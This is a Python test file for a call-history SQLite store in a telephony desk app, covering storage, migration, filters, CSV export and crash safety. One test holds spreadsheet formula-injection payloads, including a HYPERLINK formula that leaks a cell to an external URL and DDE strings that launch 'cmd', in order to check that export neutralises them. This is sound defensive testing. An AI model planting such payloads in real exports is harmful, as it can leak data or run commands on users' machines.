"""The history file: what goes in, what comes out, and what happens when things go wrong.

Real SQLite files in tmp_path throughout; nothing about sqlite is mocked.
"""

from __future__ import annotations

import base64
import csv
import signal
import sqlite3
import subprocess
import sys
import time
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from phlo_desk.core.actions import MemberAction, MemberRequest, NodeAction, NodeRequest, Role
from phlo_desk.core.client import PhloClient
from phlo_desk.core.history import (
    NO_ANSWER_MESSAGE,
    RECORD_COLUMNS,
    SCHEMA_VERSION,
    HistoryError,
    HistoryFilter,
    HistoryStore,
)
from phlo_desk.core.outcomes import ActionResult, Outcome
from phlo_desk.core.paths import default_history_path
from phlo_desk.core.settings import Profile
from phlo_desk.sandbox.http import HttpResponse
from tests.support.recording_server import RecordingServer
from tests.support.secrets import ALL_TOKENS, AUTH_ID, TOKEN

CUSTOMER = "+14152225555"
AGENT = "+14155550100"
DAY = date(2024, 5, 14)


def local(day: date, hour: int = 12, minute: int = 0, second: int = 0, microsecond: int = 0) -> datetime:
    return datetime(day.year, day.month, day.day, hour, minute, second, microsecond).astimezone()


def warm(to: str = CUSTOMER, outcome: Outcome = Outcome.OK, **fields) -> ActionResult:  # type: ignore[no-untyped-def]
    request = NodeRequest(NodeAction.WARM_TRANSFER, to, AGENT, Role.AGENT)
    return ActionResult(outcome, fields.pop("message", "Accepted."), request, **fields)


def hold(member: str = CUSTOMER, outcome: Outcome = Outcome.OK) -> ActionResult:
    return ActionResult(outcome, "On hold.", MemberRequest(MemberAction.HOLD, member), status=200)


@pytest.fixture
def store(tmp_path):
    history = HistoryStore(tmp_path / "data" / "history.sqlite3")
    yield history
    history.close()


def ids(records) -> list[int]:  # type: ignore[no-untyped-def]
    return [record.id for record in records]


def everything(history: HistoryStore, flt: HistoryFilter = HistoryFilter()) -> list:  # type: ignore[type-arg]
    return history.page(flt, None, 1_000_000)


# -- what goes in comes out ------------------------------------------------------


def test_every_field_of_node_and_member_actions_round_trips(store):
    node = ActionResult(
        Outcome.REJECTED, "Plivo refused the request.",
        NodeRequest(NodeAction.COLD_TRANSFER, "sip:alice@example.com", AGENT, Role.CUSTOMER),
        status=400, api_id="5d2f-api", detail='{"error": "member busy"}', elapsed_ms=231.5,
    )
    member = ActionResult(Outcome.UNKNOWN, "No answer.", MemberRequest(MemberAction.HANGUP, CUSTOMER))
    node_at, member_at = local(DAY, 9, 15, 30, 123000), local(DAY, 9, 16)

    assert store.append(node, node_at) == 1
    assert store.append(member, member_at) == 2

    newest, oldest = everything(store)
    assert (newest.id, newest.at, newest.action, newest.target) == (2, member_at, "hangup", CUSTOMER)
    assert (newest.trigger_source, newest.role, newest.status, newest.elapsed_ms) == ("", "", None, None)
    assert newest.outcome is Outcome.UNKNOWN and newest.as_result() == member
    assert (oldest.id, oldest.at, oldest.action) == (1, node_at, "cold_transfer")
    assert oldest.target == "sip:alice@example.com"
    assert (oldest.trigger_source, oldest.role, oldest.outcome) == (AGENT, "customer", Outcome.REJECTED)
    assert (oldest.status, oldest.api_id, oldest.detail, oldest.elapsed_ms) == (400, "5d2f-api", node.detail, 231.5)
    assert oldest.message == node.message and oldest.as_result() == node
    assert oldest.at.utcoffset() is not None


def test_a_row_is_written_before_sending_and_completed_with_its_answer(store):
    request = NodeRequest(NodeAction.COLD_TRANSFER, "sip:alice@example.com", AGENT, Role.CUSTOMER)
    sent_at = local(DAY, 9, 15, 30, 123000)
    row_id = store.append_sent(request, sent_at)

    (sent,) = everything(store)
    assert (sent.id, sent.at, sent.action, sent.target) == (row_id, sent_at, "cold_transfer", "sip:alice@example.com")
    assert (sent.trigger_source, sent.role, sent.request()) == (AGENT, "customer", request)
    assert not sent.answered and sent.outcome is Outcome.UNKNOWN
    assert sent.message == NO_ANSWER_MESSAGE == "Sent, no answer recorded: check the call."
    assert (sent.status, sent.api_id, sent.detail, sent.elapsed_ms) == (None, "", "", None)

    answer = ActionResult(Outcome.REJECTED, "Plivo refused the request.", request,
                          status=400, api_id="5d2f-api", detail="member busy", elapsed_ms=231.5)
    store.complete(row_id, answer)
    (done,) = everything(store)
    assert done.answered and (done.id, done.at) == (row_id, sent_at)  # the same row, still at the time sent
    assert done.as_result() == answer


def test_an_answer_completes_only_a_row_still_waiting_for_one(store):
    first = store.append_sent(warm().request)
    store.complete(first, warm(api_id="first"))
    with pytest.raises(HistoryError, match="no longer waiting for an answer") as raised:
        store.complete(first, warm(api_id="second"))
    assert str(store.path) in raised.value.detail
    with pytest.raises(HistoryError, match="no longer waiting for an answer"):
        store.complete(first + 1, warm(api_id="no such row"))
    assert [(record.id, record.api_id) for record in everything(store)] == [(first, "first")]


def test_rows_without_an_answer_read_plainly_everywhere(store, tmp_path):
    """In the filters, the recent targets and the CSV alike."""
    store.append(warm(to="+14150000001", status=201, api_id="a-1"), local(DAY, 9))
    store.append_sent(warm(to="+14150000002").request, local(DAY, 10))
    store.append_sent(hold(member="+14150000003").request, local(DAY, 11))

    assert store.recent_targets() == ["+14150000002", "+14150000001"]
    assert ids(everything(store, HistoryFilter(outcome=Outcome.UNKNOWN))) == [3, 2]  # may have happened
    assert ids(everything(store, HistoryFilter(address="0002", since=DAY, until=DAY))) == [2]

    target = tmp_path / "history.csv"
    assert store.export_csv(HistoryFilter(), target) == 3
    header, *rows = read_csv(target)
    member, node, answered = (dict(zip(header, row, strict=True)) for row in rows)
    for row in (member, node):
        assert (row["outcome"], row["message"], row["answered"]) == ("unknown", NO_ANSWER_MESSAGE, "0")
        assert (row["status"], row["api_id"], row["detail"], row["elapsed_ms"]) == ("", "", "", "")
    assert (member["action"], node["action"], node["role"]) == ("hold", "warm_transfer", "agent")
    assert (answered["outcome"], answered["api_id"], answered["answered"]) == ("ok", "a-1", "1")


def test_the_time_defaults_to_now_in_local_time(store):
    before = datetime.now().astimezone()
    store.append(warm())
    (record,) = everything(store)
    assert before - timedelta(seconds=1) <= record.at <= datetime.now().astimezone()
    assert record.at.tzinfo is not None


def test_a_result_without_a_request_is_not_recorded(store):
    assert store.append(ActionResult(Outcome.NETWORK, "No connection.")) is None
    assert store.count() == 0


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    target=st.text(min_size=1, max_size=40),
    message=st.text(max_size=200),
    detail=st.text(max_size=200),
    api_id=st.text(max_size=40),
    status=st.none() | st.integers(100, 599),
    elapsed_ms=st.none() | st.floats(0, 1e6, allow_nan=False),
)
def test_any_text_round_trips(store, target, message, detail, api_id, status, elapsed_ms):
    result = ActionResult(Outcome.OK, message, MemberRequest(MemberAction.HOLD, target),
                          status=status, api_id=api_id, detail=detail, elapsed_ms=elapsed_ms)
    row_id = store.append(result)
    (record,) = store.page(HistoryFilter(), row_id + 1, 1)
    assert record.as_result() == result


def test_history_survives_a_restart(tmp_path):
    path = tmp_path / "history.sqlite3"
    first = HistoryStore(path)
    first.append(warm(), local(DAY))
    first.close()
    second = HistoryStore(path)
    assert second.append(hold(), local(DAY, 13)) == 2
    assert [r.action for r in everything(second)] == ["hold", "warm_transfer"]
    second.close()


def test_the_folder_and_the_schema_are_created_on_first_use(tmp_path):
    path = tmp_path / "new" / "folder" / "history.sqlite3"
    history = HistoryStore(path)
    assert not path.exists()  # opened lazily: constructing it touches nothing
    assert history.count() == 0 and path.exists()
    with sqlite3.connect(path) as connection:
        assert connection.execute("PRAGMA journal_mode").fetchone() == ("wal",)
        assert connection.execute("PRAGMA user_version").fetchone() == (SCHEMA_VERSION,) == (2,)
    history.close()


# The schema as version 1 of PHLO Desk created it, word for word.
_VERSION_1 = (
    """CREATE TABLE history (
        id             INTEGER PRIMARY KEY,
        at             TEXT NOT NULL,  -- ISO 8601 with the UTC offset, for people and the CSV
        at_epoch       REAL NOT NULL,  -- seconds since the epoch, for the date filter
        action         TEXT NOT NULL,
        target         TEXT NOT NULL,
        trigger_source TEXT NOT NULL,
        role           TEXT NOT NULL,
        outcome        TEXT NOT NULL,
        status         INTEGER,
        api_id         TEXT NOT NULL,
        message        TEXT NOT NULL,
        detail         TEXT NOT NULL,
        elapsed_ms     REAL,
        -- For the address filter: target and trigger_source in lower case, and their
        -- digits alone (so "415 222" finds +14152225555), each pair joined by a newline.
        search_text    TEXT NOT NULL,
        search_digits  TEXT NOT NULL
    )""",
    "CREATE INDEX history_at ON history (at_epoch)",
    "CREATE INDEX history_outcome ON history (outcome)",
    "PRAGMA user_version = 1",
)
_VERSION_1_ROWS = [
    ("2024-05-14T09:00:00.000+00:00", 1715677200.0, "warm_transfer", CUSTOMER, AGENT, "agent", "ok", 201,
     "api-1", "Accepted by Plivo.", "", 120.5, f"{CUSTOMER}\n{AGENT}", "14152225555\n14155550100"),
    ("2024-05-14T09:05:00.000+00:00", 1715677500.0, "hold", CUSTOMER, "", "", "unknown", None,
     "", "No answer.", "read timed out", None, f"{CUSTOMER}\n", "14152225555\n"),
]


def test_a_version_1_file_is_updated_in_place_keeping_every_row(tmp_path):
    path = tmp_path / "history.sqlite3"
    with sqlite3.connect(path) as connection:
        connection.execute("PRAGMA journal_mode=WAL")
        for statement in _VERSION_1:
            connection.execute(statement)
        connection.executemany(
            "INSERT INTO history (at, at_epoch, action, target, trigger_source, role, outcome, status, api_id,"
            " message, detail, elapsed_ms, search_text, search_digits)"
            " VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
            _VERSION_1_ROWS,
        )
    connection.close()
    inode = path.stat().st_ino

    history = HistoryStore(path)
    hold_row, warm_row = everything(history)
    assert (warm_row.id, warm_row.action, warm_row.outcome, warm_row.api_id, warm_row.elapsed_ms) == (
        1, "warm_transfer", Outcome.OK, "api-1", 120.5)
    assert (hold_row.id, hold_row.action, hold_row.outcome, hold_row.detail) == (
        2, "hold", Outcome.UNKNOWN, "read timed out")
    assert warm_row.answered and hold_row.answered  # version 1 wrote each row after its answer
    assert ids(everything(history, HistoryFilter(address="415 222"))) == [2, 1]

    row_id = history.append_sent(warm().request)
    history.complete(row_id, warm(api_id="api-3"))
    assert [record.api_id for record in everything(history)] == ["api-3", "", "api-1"]
    history.close()
    assert path.stat().st_ino == inode and list(tmp_path.iterdir()) == [path]  # in place: no copy, no backup
    with sqlite3.connect(path) as connection:
        assert connection.execute("PRAGMA user_version").fetchone() == (SCHEMA_VERSION,)
        assert connection.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
    connection.close()
    reopened = HistoryStore(path)
    assert reopened.count() == 3  # and it opens again as it is
    reopened.close()


def test_default_paths_keep_sandbox_practice_out_of_the_audit(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path))
    real, sandbox = default_history_path(sandbox=False), default_history_path(sandbox=True)
    assert real == tmp_path / "phlo-desk" / "history.sqlite3"
    assert sandbox == tmp_path / "phlo-desk" / "history-sandbox.sqlite3"


# -- filters ---------------------------------------------------------------------


def test_date_filter_includes_both_whole_days_in_local_time(store):
    times = {
        "day before, last moment": local(DAY - timedelta(days=1), 23, 59, 59, 999000),
        "first day, midnight": local(DAY, 0, 0, 0),
        "last day, last moment": local(DAY + timedelta(days=1), 23, 59, 59, 999000),
        "day after, midnight": local(DAY + timedelta(days=2), 0, 0, 0),
    }
    for name, at in times.items():
        store.append(warm(message=name), at)

    def messages(flt: HistoryFilter) -> list[str]:
        return [record.message for record in everything(store, flt)]

    both = HistoryFilter(since=DAY, until=DAY + timedelta(days=1))
    assert messages(both) == ["last day, last moment", "first day, midnight"]
    assert store.count(both) == 2
    assert messages(HistoryFilter(since=DAY)) == ["day after, midnight", "last day, last moment", "first day, midnight"]
    assert messages(HistoryFilter(until=DAY)) == ["first day, midnight", "day before, last moment"]
    assert messages(HistoryFilter(since=DAY + timedelta(days=3))) == []


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("415 222", [CUSTOMER]),  # digits, however they are spaced
        ("(415) 222-5555", [CUSTOMER]),
        ("+1415222", [CUSTOMER]),
        ("SIP:ALICE", ["sip:alice@example.com"]),  # any case
        ("example.COM", ["sip:alice@example.com", "sip:bob@example.com"]),
        ("0100", [CUSTOMER, "sip:alice@example.com", "sip:bob@example.com"]),  # your number matches too
        ("  ", [CUSTOMER, "sip:alice@example.com", "sip:bob@example.com"]),  # blank: no filter
        ("%", []),  # no wildcards
        ("_", []),
        ("5555 1415", []),  # never across the end of the target and your number
    ],
)
def test_address_filter(store, typed, expected):
    for target in ("sip:bob@example.com", "sip:alice@example.com", CUSTOMER):
        store.append(warm(to=target))
    found = everything(store, HistoryFilter(address=typed))
    assert sorted(record.target for record in found) == sorted(expected)
    assert store.count(HistoryFilter(address=typed)) == len(expected)


def test_outcome_filter_and_filters_combined(store):
    store.append(warm(outcome=Outcome.OK), local(DAY))
    store.append(warm(outcome=Outcome.UNKNOWN), local(DAY))
    store.append(warm(to="+442079460958", outcome=Outcome.UNKNOWN), local(DAY))
    store.append(hold(outcome=Outcome.UNKNOWN), local(DAY + timedelta(days=1)))

    assert ids(everything(store, HistoryFilter(outcome=Outcome.UNKNOWN))) == [4, 3, 2]
    combined = HistoryFilter(since=DAY, until=DAY, address="222", outcome=Outcome.UNKNOWN)
    assert ids(everything(store, combined)) == [2]
    assert store.count(combined) == 1
    assert store.count(HistoryFilter(outcome=Outcome.AUTH)) == 0


# -- paging, recent targets, export ----------------------------------------------------


def bulk(store: HistoryStore, count: int) -> None:
    start = local(DAY)
    outcomes = list(Outcome)
    store.append_many(
        (warm(to=f"+1415222{n % 100:04d}", outcome=outcomes[n % len(outcomes)]), start + timedelta(minutes=n))
        for n in range(count)
    )


@pytest.mark.parametrize("flt", [HistoryFilter(), HistoryFilter(outcome=Outcome.AUTH), HistoryFilter(address="0007")])
def test_keyset_pages_return_every_row_once_newest_first(store, flt):
    bulk(store, 1000)
    seen, before_id = [], None
    while page := store.page(flt, before_id, 64):
        assert len(page) <= 64
        seen += ids(page)
        before_id = page[-1].id
    assert seen == ids(everything(store, flt))
    assert seen == sorted(set(seen), reverse=True) and len(seen) == store.count(flt) > 0


def test_recent_targets_are_node_targets_most_recent_first_each_once(store):
    for target in ("+14150000001", "+14150000002", "+14150000001", "+14150000003"):
        store.append(warm(to=target))
    store.append(hold(member="+14159999999"))  # member actions are not someone you transfer to
    store.append(warm(to="+14150000002", outcome=Outcome.REJECTED))
    assert store.recent_targets() == ["+14150000002", "+14150000003", "+14150000001"]
    assert store.recent_targets(limit=2) == ["+14150000002", "+14150000003"]
    assert HistoryStore(store.path.with_name("empty.sqlite3")).recent_targets() == []


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_export_writes_the_filtered_rows_newest_first_under_a_header(store, tmp_path):
    store.append(warm(status=201, api_id="a-1", elapsed_ms=12.5), local(DAY, 9))
    store.append(hold(outcome=Outcome.UNKNOWN), local(DAY, 10))
    store.append(ActionResult(Outcome.UNKNOWN, "Réponse « perdue », 呼叫, line\nbreak", MemberRequest(
        MemberAction.HANGUP, "sip:zoë@example.com")), local(DAY, 11))
    target = tmp_path / "out" / "history.csv"
    target.parent.mkdir()
    target.write_text("an older export")

    assert store.export_csv(HistoryFilter(outcome=Outcome.UNKNOWN), target) == 2
    header, *rows = read_csv(target)
    assert header == list(RECORD_COLUMNS)
    assert [row[0] for row in rows] == ["3", "2"]
    newest = dict(zip(header, rows[0], strict=True))
    assert newest["message"] == "Réponse « perdue », 呼叫, line\nbreak"
    assert newest["target"] == "sip:zoë@example.com" and newest["status"] == "" and newest["role"] == ""
    assert datetime.fromisoformat(newest["at"]) == local(DAY, 11)
    assert list(target.parent.iterdir()) == [target]  # no temporary file left behind

    assert store.export_csv(HistoryFilter(), target) == 3
    oldest = dict(zip(header, read_csv(target)[-1], strict=True))
    # A leading apostrophe keeps a spreadsheet from reading +1415... as a formula (or a number).
    assert (oldest["action"], oldest["target"], oldest["trigger_source"]) == (
        "warm_transfer", "'" + CUSTOMER, "'" + AGENT)
    assert (oldest["status"], oldest["api_id"], oldest["elapsed_ms"], oldest["outcome"]) == ("201", "a-1", "12.5", "ok")
    assert oldest["answered"] == "1"


def test_export_writes_no_cell_a_spreadsheet_would_evaluate(store, tmp_path):
    formulas = {
        "message": '=HYPERLINK("http://example.com/?leak="&A1,"Click")',
        "detail": "+cmd|' /C calc'!A0",
        "api_id": "@SUM(1+1)*cmd|' /C calc'!A0",
        "target": "-2+3+cmd|' /C calc'!A0",
    }
    request = MemberRequest(MemberAction.HOLD, formulas["target"])
    store.append(ActionResult(Outcome.REJECTED, formulas["message"], request,
                              status=-1, api_id=formulas["api_id"], detail=formulas["detail"], elapsed_ms=-2.5))
    target = tmp_path / "history.csv"
    store.export_csv(HistoryFilter(), target)
    header, row = read_csv(target)
    cells = dict(zip(header, row, strict=True))
    for column, text in formulas.items():
        assert cells[column] == "'" + text, column
    assert (cells["status"], cells["elapsed_ms"], cells["id"]) == ("-1", "-2.5", "1")  # numbers stay numbers
    assert cells["action"] == "hold" and cells["outcome"] == "rejected"


def test_export_into_a_missing_folder_fails_plainly_and_leaves_nothing(store, tmp_path):
    store.append(warm())
    with pytest.raises(HistoryError, match="could not be exported"):
        store.export_csv(HistoryFilter(), tmp_path / "missing" / "history.csv")
    assert not (tmp_path / "missing").exists()


# -- durability and failures ----------------------------------------------------------

_APPEND_FOREVER = """
import sys
from pathlib import Path
from phlo_desk.core.actions import NodeAction, NodeRequest
from phlo_desk.core.history import HistoryStore
from phlo_desk.core.outcomes import ActionResult, Outcome

store = HistoryStore(Path(sys.argv[1]))
request = NodeRequest(NodeAction.WARM_TRANSFER, "+14152225555", "+14155550100")
result = ActionResult(Outcome.OK, "Accepted." * 20, request, status=201, api_id="x" * 36, elapsed_ms=1.0)
while True:
    print(store.append(result), flush=True)  # printed only once committed
"""


def test_kill_9_in_the_middle_of_writing_loses_nothing_committed(tmp_path):
    path = tmp_path / "history.sqlite3"
    writer = subprocess.Popen([sys.executable, "-c", _APPEND_FOREVER, str(path)],
                              stdout=subprocess.PIPE, text=True)
    try:
        assert writer.stdout.readline().strip() == "1"  # writing has begun
        time.sleep(0.3)
    finally:
        writer.send_signal(signal.SIGKILL)
        reported, _ = writer.communicate(timeout=10)
    last_reported = int(reported.split()[-1]) if reported.split() else 1
    assert last_reported > 5, "the writer barely wrote; the test proves nothing"

    with sqlite3.connect(path) as connection:
        assert connection.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
    history = HistoryStore(path)
    count = history.count()
    # Every reported row is there; at most one more was committed but not yet reported.
    assert last_reported <= count <= last_reported + 1
    assert ids(history.page(HistoryFilter(), None, 1)) == [count]
    assert history.append(warm()) == count + 1  # and writing goes on
    history.close()


def test_a_damaged_file_raises_a_plain_history_error_and_is_left_alone(tmp_path):
    path = tmp_path / "history.sqlite3"
    garbage = b"this is not a database, it is a shopping list\n" * 200
    path.write_bytes(garbage)
    history = HistoryStore(path)
    with pytest.raises(HistoryError) as raised:
        history.append(warm())
    assert "history file is damaged" in str(raised.value)
    assert "sqlite" not in str(raised.value).lower()  # plain language; the cause is in `detail`
    assert str(path) in raised.value.detail
    with pytest.raises(HistoryError, match="damaged"):
        history.count()
    assert path.read_bytes() == garbage


def test_a_locked_file_fails_fast_and_works_again_once_free(store):
    store.append(warm())
    blocker = sqlite3.connect(store.path, isolation_level=None)
    blocker.execute("BEGIN EXCLUSIVE")
    try:
        for history in (store, HistoryStore(store.path)):  # an open and a fresh connection
            started = time.monotonic()
            with pytest.raises(HistoryError, match="in use by another program"):
                history.append(warm())
            assert time.monotonic() - started < 1.0
    finally:
        blocker.rollback()
        blocker.close()
    assert store.append(warm()) == 2


def test_a_file_from_a_newer_version_is_refused(tmp_path):
    path = tmp_path / "history.sqlite3"
    with sqlite3.connect(path) as connection:
        connection.execute("PRAGMA user_version = 99")
    with pytest.raises(HistoryError, match="newer version of PHLO Desk"):
        HistoryStore(path).append(warm())


def test_nothing_secret_is_stored(store):
    """Actions sent with real credentials, recorded as the worker records them: no file
    of the history holds the token or the Auth ID, in any form, while open or after."""
    phlo_id, node_id, api_id = "8b2f6a3e-1111-4222-8333-444455556666", "c0ffee00-aaaa", "9f3c41aa-api-id"
    basic = base64.b64encode(f"{AUTH_ID}:{TOKEN}".encode())
    with RecordingServer() as server:
        server.script(HttpResponse.json(201, {"api_id": api_id, "error": ""}),
                      HttpResponse.json(401, {"api_id": "", "error": "Authentication failed"}))
        client = PhloClient(Profile(api_base=server.url, auth_id=AUTH_ID, phlo_id=phlo_id, node_id=node_id), TOKEN)
        for request in (warm().request, hold().request):
            row_id = store.append_sent(request)
            store.complete(row_id, client.run(request))
        client.close()
    assert all(request.headers["authorization"] == f"Basic {basic.decode()}" for request in server.requests)

    def history_bytes() -> bytes:
        files = list(store.path.parent.iterdir())
        assert store.path in files
        return b"".join(file.read_bytes() for file in files)

    secrets = [token.encode() for token in ALL_TOKENS] + [AUTH_ID.encode(), basic]
    for moment in ("open", "closed"):  # open: the rows may still be in the write-ahead log
        data = history_bytes()
        assert api_id.encode() in data and CUSTOMER.encode() in data, moment  # the scan sees the rows
        assert [secret for secret in secrets if secret in data] == [], moment
        store.close()
    assert [record.outcome for record in everything(store)] == [Outcome.AUTH, Outcome.OK]
    connection = sqlite3.connect(store.path)
    columns = {row[1] for row in connection.execute("PRAGMA table_info(history)")}
    connection.close()
    assert columns == {*RECORD_COLUMNS, "at_epoch", "search_text", "search_digits"}


def test_consult_moves_are_recorded_by_name_and_colleague(store):
    from phlo_desk.core.history import Audit

    complete = MemberRequest(MemberAction.HANGUP, AGENT)
    row_id = store.append_sent(Audit.of(complete, "complete_transfer", about="+14152225555"))
    store.complete(row_id, ActionResult(Outcome.OK, "Accepted by Plivo.", request=complete, status=201))
    record = store.page(HistoryFilter(), None, 1)[0]
    assert (record.action, record.target, record.trigger_source) == ("complete_transfer", "+14152225555", AGENT)
    assert record.request() == complete  # what went on the wire: hangup on the agent's own leg
